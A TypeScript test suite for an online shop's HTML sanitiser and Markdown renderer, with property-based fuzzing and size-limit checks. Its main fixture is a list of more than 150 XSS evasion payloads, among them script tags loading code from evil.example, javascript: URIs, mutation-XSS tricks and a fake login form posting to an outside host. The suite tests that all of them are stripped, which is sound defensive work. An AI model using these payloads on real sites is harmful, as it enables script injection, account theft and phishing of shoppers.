import fc from 'fast-check';
import sax from 'sax';
import { describe, expect, test } from 'vitest';
import { HtmlTooLarge, htmlToText, markdownToHtml, sanitizeHtml } from './sanitize.server.ts';

/** Written apart from the sanitiser on purpose: what may stand in a page, element by element. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = Object.fromEntries([
  ...'h2 h3 h4 h5 h6 p div blockquote pre ul li dl dt dd b cite code del em i ins kbd mark q s samp small strong sub sup u'
    .split(' ')
    .map((name) => [name, []]),
  ...'table caption thead tbody tfoot tr br hr'.split(' ').map((name) => [name, []]),
  ['a', ['href', 'rel']],
  ['abbr', ['title']],
  ['ol', ['start']],
  ['th', ['colspan', 'rowspan', 'scope']],
  ['td', ['colspan', 'rowspan']],
]);

/** Problems found in HTML by a strict parser: odd markup is a problem of its own. */
function problems(html: string): string[] {
  const found: string[] = [];
  const parser = sax.parser(true);
  parser.onerror = (error) => {
    found.push(`not well-formed: ${error.message}`);
    parser.resume();
  };
  parser.oncomment = () => found.push('a comment');
  parser.oncdata = () => found.push('CDATA');
  parser.ondoctype = () => found.push('a doctype');
  parser.onprocessinginstruction = () => found.push('a processing instruction');
  parser.onopentag = ({ name, attributes }) => {
    if (name === 'root') return;
    const allowed = Object.hasOwn(ALLOWED, name) ? ALLOWED[name] : undefined;
    if (!allowed) found.push(`<${name}>`);
    for (const [key, value] of Object.entries(attributes)) {
      if (!allowed?.includes(key)) found.push(`<${name} ${key}>`);
      if (key === 'href' && !isHarmless(value)) found.push(`href ${value}`);
    }
  };
  parser.write(`<root>${html}</root>`).close();
  return found;
}

function isHarmless(href: unknown): boolean {
  const url = URL.parse(String(href), 'https://shop.example/');
  return url !== null && ['http:', 'https:', 'mailto:', 'tel:'].includes(url.protocol);
}

/** The evasions collected by the OWASP XSS Filter Evasion Cheat Sheet and by reports on HTML sanitisers since. */
const ATTACKS: readonly string[] = [
  // Plain scripts and their spellings
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/src=//evil.example/x></script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script a=">" src="https://evil.example/x.js"></script>',
  `<script =">" src="https://evil.example/x.js"></script>`,
  `<script a=">" '' src="https://evil.example/x.js"></script>`,
  `<script "a='>'" src="https://evil.example/x.js"></script>`,
  '<script a=`>` src="https://evil.example/x.js"></script>',
  `<script a=">'>" src="https://evil.example/x.js"></script>`,
  '<script>document.write("<scri");</script>pt src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script src=https://evil.example/x.js?<b>',
  '<script src=//evil.example/.j>',
  '</title><script>alert(1);</script>',
  '</textarea><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<script\u000B>alert(1)</script>',
  '<script >alert(1)</script >',
  '<script>alert(1)',
  '+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
  '¼script¾alert(¢XSS¢)¼/script¾',
  // Pictures and their handlers
  '<img src="javascript:alert(1);">',
  '<img src=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(String.fromCharCode(88,83,83))>',
  '<img src=# onmouseover="alert(1)">',
  '<img src= onmouseover="alert(1)">',
  '<img onmouseover="alert(1)">',
  '<img src=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
  '<img src=" &#14;  javascript:alert(1);">',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<img src=\'vbscript:msgbox("XSS")\'>',
  '<img style="xss:expr/*XSS*/ession(alert(1))">',
  '<img/src/onerror=alert(1)>',
  '<img src="https://shop.example/wyloguj">',
  '<image src=x onerror=alert(1)>',
  '<input type="image" src="javascript:alert(1);">',
  // Links
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1);">x</a>',
  '<a href="jav&#x09;ascript:alert(1);">x</a>',
  '<a href="jav&#x0A;ascript:alert(1);">x</a>',
  '<a href="jav&#x0D;ascript:alert(1);">x</a>',
  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="javascript&#x3A;alert(1)">x</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="/\t/evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href=javascript&#x3a;alert&#40;1&#41;>x</a>',
  '<a href="https://evil.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<a href="x" target="_blank" ping="https://evil.example">x</a>',
  '<a href="https://evil.example/" id="basket" class="button" name="submit">x</a>',
  `<a href="https://a.example/'onclick='alert(1)">x</a>`,
  '<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href=https://a.example/"onclick=alert(1)//>x</a>',
  '<a/href="javascript:alert(1)"/onclick=alert(1)>x</a>',
  '<a href="javascript:alert(1)" href="https://a.example">x</a>',
  // Foreign content and SVG
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  // Raw text elements: what one parser takes for text is markup to another
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><a title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<iframe><a title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<style><a title="</style><img src=x onerror=alert(1)>"></style>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<textarea/><img src=x onerror=alert(1)></textarea/>',
  // Frames, objects, documents
  '<iframe src="javascript:alert(1);"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=# onmouseover="alert(1)"></iframe>',
  '<iframe><iframe><iframe><script>alert(1)</script></iframe>',
  '<frameset><frame src="javascript:alert(1);"></frameset>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
  '<applet code="x.class"></applet>',
  '<base href="javascript:alert(1);//">',
  '<base href="https://evil.example/"><a href="/koszyk">x</a>',
  '<link rel="stylesheet" href="javascript:alert(1);">',
  '<link rel=import href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<html><head><base></head><body onload=alert(1)>x</body></html>',
  '<body background="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1);">',
  '<br size="&{alert(1)}">',
  '<layer src="https://evil.example/"></layer>',
  '<portal src="https://evil.example/"></portal>',
  // Styles
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</ul>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="background-image:\\0075\\0072\\006C\\0028\'javascript:alert(1)\'\\0029">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<xss style="behavior: url(xss.htc);">x</xss>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  // Controls that mislead or send
  '<form action="https://evil.example/"><input name=password><button>Zaloguj</button></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<dialog open>x</dialog>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<div contenteditable onfocus=alert(1) tabindex=1 autofocus>x</div>',
  '<p onclick=alert(1) id=cookie class=x data-x=y is=z slot=a>x</p>',
  // Comments, instructions and broken markup
  '<!--[if gte IE 4]><script>alert(1);</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<? echo("<script>alert(1)</script>"); ?>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<xml id="x"><i><b>&lt;img src="javas<!-- -->cript:alert(1)"&gt;</b></i></xml>',
  '<p title="a>b" onclick="alert(1)"',
  '<p <script>alert(1)</script>',
  '<b <img src=x onerror=alert(1)>>x</b>',
  '<p/onclick=alert(1)>x',
  '<p a="\'></p><img src=x onerror=alert(1)>">x',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'<b '\">x</b>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<<<<<img src=x onerror=alert(1)>>>>>',
  '<constructor>x</constructor><__proto__ onclick=x>y</__proto__><hasOwnProperty>z</hasOwnProperty>',
  '<p constructor=1 __proto__=2 hasOwnProperty=3>x</p>',
  '<td colspan="1&quot; onclick=&quot;alert(1)">x</td>',
  '<ol start="1 onclick=alert(1)"><li>x</ol>',
  '<abbr title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</abbr>',
];

test('there are enough attacks to be worth the name, none twice', () => {
  expect(new Set(ATTACKS).size).toBe(ATTACKS.length);
  expect(ATTACKS.length).toBeGreaterThan(150);
});

test('the check itself finds what it looks for', () => {
  expect(problems('<p onclick="x">a</p>')).toEqual(['<p onclick>']);
  expect(problems('<script>a</script>')).toEqual(['<script>']);
  expect(problems('<a href="java\nscript:x">a</a>')).toHaveLength(1);
  expect(problems('<p>a')).not.toEqual([]);
});

describe.each(ATTACKS)('%j', (attack) => {
  test('leaves nothing that runs', () => {
    const html = sanitizeHtml(attack);
    expect(problems(html)).toEqual([]);
    expect(sanitizeHtml(html)).toBe(html);
    expect(problems(sanitizeHtml(`<div><ul><li>${attack}</li></ul></div>`))).toEqual([]);
    expect(problems(markdownToHtml(`a ${attack}\n\n${attack}\n`))).toEqual([]);
  });
});

const FRAGMENTS = [
  ...[
    '<p>',
    '</p>',
    '<x>',
    '</x>',
    '<b>',
    '</b>',
    '<a href="/a">',
    '<a href="javascript:x">',
    '</a>',
    '<h1>',
    '</h1>',
    '<h5>',
  ],
  ...[
    '</h5>',
    '<h6>',
    '</h6>',
    '<ul>',
    '<li>',
    '</ul>',
    '<table>',
    '<tr>',
    '<td>',
    '</td>',
    '</table>',
    '<svg>',
    '</svg>',
  ],
  ...[
    '<style>',
    '</style>',
    '<script>',
    '</script>',
    '<noscript>',
    '</noscript>',
    '<iframe>',
    '</iframe>',
    '<textarea>',
  ],
  ...[
    '</textarea>',
    '<br>',
    '<hr>',
    '<img src=x onerror=y>',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '&',
    '&lt;',
    '&nbsp;',
    '"',
    "'",
  ],
  ...[
    '<',
    '>',
    ' ',
    'a',
    'w domu',
    '\u0000',
    '\u0001',
    '=',
    '/',
    '<dl><dt>',
    '<dd>',
    '<form>',
    '</form>',
    '<math>',
    '<pre>',
  ],
  ...[
    '</pre>',
    '<div>',
    '</div>',
    '<option>',
    '<select>',
    '<title>',
    '<template>',
    '<p a="',
    "<p a='",
    '<?',
    '?>',
    '<!',
  ],
];

const markup = fc.oneof(
  fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 30 }).map((parts) => parts.join('')),
  fc.string({ unit: 'grapheme', maxLength: 80 }),
);

test('whatever comes in, only the allowed comes out, and a second cleaning changes nothing', () => {
  fc.assert(
    fc.property(markup, (input) => {
      const html = sanitizeHtml(input);
      expect(problems(html.replace(/\p{Cc}/gu, ''))).toEqual([]);
      expect(sanitizeHtml(html)).toBe(html);
    }),
    { numRuns: 3000 },
  );
});

const inline = fc.constantFrom(
  'b',
  'em',
  'a',
  'span',
  'font',
  'a href="/a"',
  'a href="javascript:x"',
  'div',
  'center',
  'ul><li',
);

test('no word a shopper would have read is lost', () => {
  const word = fc.stringMatching(/^[a-zżółć0-9]{1,8}$/);
  const { tree } = fc.letrec<{ tree: { html: string; words: string[] } }>((tie) => ({
    tree: fc.oneof(
      { maxDepth: 4 },
      word.map((text) => ({ html: `${text} `, words: [text] })),
      fc.tuple(inline, fc.array(tie('tree'), { maxLength: 3 })).map(([name, inside]) => ({
        html: `<${name}>${inside.map(({ html }) => html).join(' ')}</${name.split(' ')[0]}>`,
        words: inside.flatMap(({ words }) => words),
      })),
    ),
  }));
  fc.assert(
    fc.property(tree, ({ html, words }) => {
      const shown = sanitizeHtml(html)
        .replace(/<[^>]*>/g, ' ')
        .split(/\s+/)
        .filter(Boolean);
      expect(shown).toEqual(words);
      expect(htmlToText(html).split(' ').filter(Boolean)).toEqual(words);
    }),
  );
});

test('text from HTML holds no markup of its own: put in a page as text it shows as it was read', () => {
  expect(htmlToText('<p>Kubek</p><p>z&nbsp;uchem &amp; <b>spodkiem</b><br>biały</p><script>x()</script>')).toBe(
    'Kubek z uchem & spodkiem biały',
  );
  expect(htmlToText('5 &lt; 6')).toBe('5 < 6');
  expect(htmlToText('&amp;lt;b&amp;gt;')).toBe('&lt;b&gt;');
  expect(htmlToText('<p> </p>')).toBe('');
});

describe('what a merchant wrote stays', () => {
  test.each([
    ['<h1>A</h1><h2>B</h2><h6>C</h6>', '<h2>A</h2><h3>B</h3><h6>C</h6>'],
    ['<h2>A</h2><h3>B</h3>', '<h2>A</h2><h3>B</h3>'],
    ['<h1 class="x">A &lt;h1&gt;</h1>', '<h2>A &lt;h1&gt;</h2>'],
    ['<p></p><p>&nbsp;</p><p><br></p><p>a</p><p><b> </b></p>', '<p>a</p>'],
    ['<p>a<img src="https://a.example/x.jpg">b</p>', '<p>ab</p>'],
    ['<p><img src="x"></p><p>b</p>', '<p>b</p>'],
    ['<ul><li>a<li>b</ul>', '<ul><li>a</li><li>b</li></ul>'],
    [
      '<table><tr><td colspan="2">a</td><td></td></tr></table>',
      '<table><tr><td colspan="2">a</td><td></td></tr></table>',
    ],
    ['<td colspan="9999" rowspan="0">a</td>', '<td>a</td>'],
    ['<span style="color:red"><font size=7>a</font></span>', 'a'],
    ['a < b && c > d', 'a &lt; b &amp;&amp; c &gt; d'],
    ['<a href="/regulamin">a</a>', '<a href="/regulamin">a</a>'],
    [
      '<a href="https://a.example/?x=1&y=2" target=_blank>a</a>',
      '<a href="https://a.example/?x=1&amp;y=2" rel="nofollow noopener">a</a>',
    ],
    [
      '<a href="mailto:a@b.example">a</a><a href="tel:+48756120000">b</a>',
      '<a href="mailto:a@b.example">a</a><a href="tel:+48756120000">b</a>',
    ],
    ['<a href="javascript:x">a <b>b</b></a>', 'a <b>b</b>'],
    ['<a href="#kotwica">a</a>', 'a'],
    ['<p><a href="javascript:x">a</a></p>', '<p>a</p>'],
    ['<p><a href="/\t/evil.example">a</a></p>', '<p>a</p>'],
    ['<ul><li><span>a</span></li><li><font> </font></li></ul>', '<ul><li>a</li></ul>'],
    ['<a href="strona.html">a</a>', 'a'],
    ['<iframe src="https://www.youtube.com/embed/1"></iframe><p>a</p>', '<p>a</p>'],
    ['<P>Zażółć</P>\u0000', '<p>Zażółć</p>'],
    ['', ''],
  ])('%j', (html, expected) => {
    expect(sanitizeHtml(html)).toBe(expected);
  });

  test('links of the shop a feed came from are unwrapped', () => {
    const html = '<p><a href="/pl/producers/x.html">a</a> <a href="https://a.example/">b</a></p>';
    expect(sanitizeHtml(html, { ownLinks: false })).toBe(
      '<p>a <a href="https://a.example/" rel="nofollow noopener">b</a></p>',
    );
  });
});

describe('Markdown', () => {
  test('becomes content with Polish no-break spaces, none of them in code', () => {
    expect(markdownToHtml('# Kubek\n\nStoi w domu i `w domu`, 350 ml.\n\n- **5 zł**\n')).toBe(
      '<h2>Kubek</h2>\n<p>Stoi w\u00A0domu i <code>w domu</code>, 350\u00A0ml.</p>\n<ul>\n<li><strong>5\u00A0zł</strong></li>\n</ul>',
    );
  });

  test('links and tables', () => {
    expect(markdownToHtml('[zwroty](/zwroty) <https://a.example/>')).toBe(
      '<p><a href="/zwroty">zwroty</a> <a href="https://a.example/" rel="nofollow noopener">https://a.example/</a></p>',
    );
    expect(problems(markdownToHtml('| a | b |\n|:--|--:|\n| 1 | 2 |\n'))).toEqual([]);
    expect(markdownToHtml('| a | b |\n|:--|--:|\n| 1 | 2 |\n')).toContain('<th>a</th>');
  });

  test('links cannot run', () => {
    expect(markdownToHtml('[a](javascript:alert(1)) ![b](https://a.example/x.png) [c](data:text/html,x)')).toBe(
      '<p>a  c</p>',
    );
  });
});

describe('size', () => {
  test('more than 500 kB is refused, in bytes', () => {
    expect(sanitizeHtml('a'.repeat(500_000))).toHaveLength(500_000);
    expect(() => sanitizeHtml('a'.repeat(500_001))).toThrow(HtmlTooLarge);
    expect(() => sanitizeHtml('ł'.repeat(250_001))).toThrow(HtmlTooLarge);
    expect(() => markdownToHtml('a'.repeat(500_001))).toThrow(HtmlTooLarge);
    expect(() => htmlToText('a'.repeat(500_001))).toThrow(HtmlTooLarge);
  });

  test('more than 25 000 tags are refused; nesting is cut, its text kept', () => {
    expect(() => sanitizeHtml('<b>'.repeat(25_001))).toThrow(HtmlTooLarge);
    const html = sanitizeHtml(`${'<div>'.repeat(200)}a`);
    expect(html).toBe(`${'<div>'.repeat(40)}a${'</div>'.repeat(40)}`);
  });
});
